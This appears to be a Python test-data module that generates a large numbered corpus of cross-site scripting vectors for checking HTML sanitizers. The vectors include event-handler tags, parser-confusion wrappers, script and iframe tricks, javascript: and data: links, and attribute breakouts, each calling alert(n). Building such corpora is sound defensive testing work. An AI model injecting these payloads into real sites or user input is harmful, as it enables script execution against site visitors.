"""Words that try to run a script, made here: families of tricks, each in many forms.

Each calls ``alert(<its number>)`` where a browser lets it; a page on which they stand as they are
is the control that they can. What is known of such tricks is told by the OWASP filter evasion sheet
and by the test pages of HTML cleaners; no vector here is copied from them.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

# An element that runs something by itself, and the attribute that does so.
_BY_THEMSELVES = (
    ("img", "src=x", "onerror"), ("image", "src=x", "onerror"),
    ("svg", "", "onload"), ("body", "", "onload"),
    ("video", "src=x", "onerror"), ("audio", "src=x", "onerror"),
    ("input", "autofocus", "onfocus"), ("select", "autofocus", "onfocus"),
    ("textarea", "autofocus", "onfocus"), ("button", "autofocus", "onfocus"),
    ("a", "href=# autofocus", "onfocus"), ("details", "open", "ontoggle"),
    ("iframe", "src=about:blank", "onload"), ("object", "data=x", "onerror"),
    ("embed", "src=x", "onerror"), ("marquee", "", "onstart"), ("style", "", "onload"),
    ("link", "rel=stylesheet href=x", "onerror"), ("script", "src=x", "onerror"),
    ("p", "tabindex=1 autofocus", "onfocus"), ("blockquote", "tabindex=1 autofocus", "onfocus"),
)  # fmt: skip
# How the parts of a tag may be held apart and quoted.
_FORMS = (
    "<{tag} {more} {event}=alert({n})>",
    "<{tag} {more} {event}='alert({n})'>",
    '<{tag} {more} {event}="alert({n})">',
    "<{tag}/{more}/{event}=alert({n})>",
    "<{tag}\n{more}\n{event}\n=\nalert({n})>",
    "<{tag}\t{more}\x0c{event}=alert({n})//",
    "<{TAG} {more} {EVENT}=alert({n})>",
    "<{tag} {more} {event}=&#97;lert({n})>",
    "<{tag} {more} {event}=\\u0061lert({n})>",
    '<{tag} x="<p>" {more} {event}=alert({n})>',
    "<{tag} {more} {event}=alert({n}) <p>",
    "<p title='</p><{tag} {more} {event}=alert({n})>'>",
    "<<{tag} {more} {event}=alert({n})>",
    "<p><{tag} {more} {event}=alert({n})></p>",
    "<!--><{tag} {more} {event}=alert({n})>-->",
    "<!-- --!><{tag} {more} {event}=alert({n})>-->",
    "<![CDATA[><{tag} {more} {event}=alert({n})>]]>",
    "<?x ><{tag} {more} {event}=alert({n})>?>",
    "</p><{tag} {more} {event}=alert({n})>",
    "</div></li></ol></section></article></main><{tag} {more} {event}=alert({n})>",
)
# Places where a parser changes its mind about what follows.
_WRAPPERS = (
    "<svg>{0}</svg>", "<math>{0}</math>", "<svg><style>{0}</style></svg>",
    "<math><style>{0}</style></math>", "<svg><title>{0}</title></svg>",
    "<svg><desc>{0}</desc></svg>", "<svg><foreignObject>{0}</foreignObject></svg>",
    "<math><mtext>{0}</mtext></math>", "<math><annotation-xml encoding=text/html>{0}",
    "<math><mtext><table><mglyph><style><!--</style>{0}--></style>",
    "<form><math><mtext></form><form><mglyph><style></math>{0}",
    "<noscript><p title='</noscript>{0}'></noscript>", "<title>{0}</title>",
    "<textarea></textarea>{0}</textarea>", "<textarea>{0}", "<style>{0}", "<style></style>{0}",
    "<xmp>{0}</xmp>", "<xmp></xmp>{0}", "<noembed>{0}</noembed>", "<noframes>{0}</noframes>",
    "<iframe>{0}</iframe>", "<template>{0}</template>", "<plaintext>{0}", "<select>{0}</select>",
    "<select><template>{0}</template></select>", "<option>{0}</option>", "<table>{0}</table>",
    "<table><tr><td>{0}</td></tr></table>", "<table><caption>{0}", "<frameset>{0}</frameset>",
    "<ul><li>{0}", "<pre>{0}</pre>", "<code>{0}</code>", "<a href='{0}'>k</a>",
    '<a href="{0}">k</a>', "<p id=x>{0}</p>", "<svg></p><style><a id='</style>{0}'>",
    "<b><p><i>{0}</b></p></i>",
    "<details open><summary>{0}", "<object>{0}</object>", "<video>{0}</video>",
    "<listing>{0}</listing>", "<nobr>{0}", "<font>{0}</font>", "<dialog open>{0}</dialog>",
)  # fmt: skip
_INSIDE = ("<img src=x onerror=alert({n})>", "<script>alert({n})</script>",
           "<svg onload=alert({n})>")  # fmt: skip
_SCRIPTS = (
    "<script>alert({n})</script>", "<SCRIPT>alert({n})</SCRIPT>", "<script\n>alert({n})</script\n>",
    "<script/x>alert({n})</script>", "<script>alert({n})", "<scr<script>ipt>alert({n})</script>",
    "<script src='data:text/javascript,alert({n})'></script>", "<svg><script>alert({n})</script>",
    "<svg><script href='data:text/javascript,alert({n})'/>", "<script type=module>alert({n})",
    "<svg><script>alert&#40;{n}&#41;</script>", "<script>/*</p>*/alert({n})</script>",
    "<script><!--\nalert({n})//--></script>", "<script>`${{alert({n})}}`</script>",
    "<iframe srcdoc='<script>parent.alert({n})</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.alert({n})&lt;/script&gt;'></iframe>",
    "<iframe src='javascript:parent.alert({n})'></iframe>",
    "<iframe src='java\nscript:parent.alert({n})'></iframe>",
    "<object data='javascript:alert({n})'></object>", "<embed src='javascript:alert({n})'>",
    "<object data='data:text/html,<script>parent.alert({n})</script>'></object>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>", "<svg><set onbegin=alert({n})>",
    "<svg><animateTransform onbegin=alert({n})>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert({n})>#x'>",
    "<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart=alert({n})>",
    "<style>p{{background:url(javascript:alert({n}))}}</style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert({n})'>", "<base href='javascript:/'>",
    "<link rel=import href='data:text/html,<script>alert({n})</script>'>",
    "<form action='javascript:alert({n})'><input type=submit id=go></form>",
    "<isindex type=image src=x onerror=alert({n})>", "<bgsound src='javascript:alert({n})'>",
    "<table background='javascript:alert({n})'>", "<p style='x:expression(alert({n}))'>",
    "{{{{ ''.__class__ }}}}<script>alert({n})</script>",
    "{{% raw %}}<img src=x onerror=alert({n})>",
)  # fmt: skip
# Links that a click would run.
_LINKS = (
    "javascript:alert({n})", "JavaScript:alert({n})", "java\tscript:alert({n})",
    "java\nscript:alert({n})", "\x01javascript:alert({n})", " javascript:alert({n})",
    "javascript&colon;alert({n})", "&#106;avascript:alert({n})", "&#x6A;avascript:alert({n})",
    "javascript&#58;alert({n})", "java&Tab;script:alert({n})", "java&NewLine;script:alert({n})",
    "javascript://x%0aalert({n})", "javascript:/*--></p>*/alert({n})", "vbscript:alert({n})",
    "data:text/html,<script>alert({n})</script>",
    "data:text/html;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoKT4=",
    "blob:x", "feed:javascript:alert({n})", "view-source:javascript:alert({n})",
    "jar:javascript:alert({n})!/", "x:javascript:alert({n})",
    "javascript:alert({n})//https://a.example/",
)  # fmt: skip
_TAGGED = ("<a href='{0}'>k</a>", '<a href="{0}">k</a>', "<p><a href='{0}'>k</a></p>",
           "<a HREF='{0}' rel=x>k</a>", "<area href='{0}'>",
           "<svg><a href='{0}'><text y=9>k</text></a>",
           "<svg><a xlink:href='{0}'><text y=9>k</text></a>", "<math href='{0}'>k</math>",
           "<form action='{0}'><button>k</button></form>",
           "<button formaction='{0}'>k</button>")  # fmt: skip
# What breaks out of an attribute or an element of a template that does not escape.
_BREAKS = (
    '"><img src=x onerror=alert({n})>', "'><img src=x onerror=alert({n})>",
    '" autofocus onfocus=alert({n}) x="', "' autofocus onfocus=alert({n}) x='",
    '" onerror=alert({n}) src=x x="', "</bdi><script>alert({n})</script>",
    "</summary><script>alert({n})</script>", "</title><script>alert({n})</script>",
    "--><script>alert({n})</script>", "]]><script>alert({n})</script>",
    "</time></a></h3><svg onload=alert({n})>", '"><svg/onload=alert({n})>',
    "&quot;&gt;&lt;svg onload=alert({n})&gt;", "%22%3E%3Csvg onload=alert({n})%3E",
    "\u2028<svg onload=alert({n})>", "\x00<svg onload=alert({n})>", "<\x00svg onload=alert({n})>",
    "<svg\u200bonload=alert({n})>", "\uff1csvg onload=alert({n})\uff1e", "<b>{n}</b>",
)  # fmt: skip


def bodies() -> tuple[str, ...]:
    """Every vector for words in HTML, numbered from 0 on."""
    return tuple(text.replace("{n}", str(n)) for n, text in enumerate(_bodies()))


def fields(first: int) -> tuple[str, ...]:
    """Every vector for names, addresses and other fields, numbered from ``first`` on."""
    texts = (*_BREAKS, *(text.replace("{{", "{").replace("}}", "}") for text in _SCRIPTS[:8]),
             *_LINKS)  # fmt: skip
    return tuple(text.replace("{n}", str(n)) for n, text in enumerate(texts, first))


def _bodies() -> Iterator[str]:
    for (tag, more, event), form in product(_BY_THEMSELVES, _FORMS):
        yield form.format(tag=tag, more=more, event=event, TAG=tag.upper(), EVENT=event.upper(),
                          n="{n}")  # fmt: skip
    for wrapper, inside in product(_WRAPPERS, _INSIDE):
        yield wrapper.format(inside)
    for script in _SCRIPTS:
        yield script.replace("{{", "{").replace("}}", "}")
    for tagged, link in product(_TAGGED, _LINKS):
        yield tagged.format(link)
    yield from _BREAKS
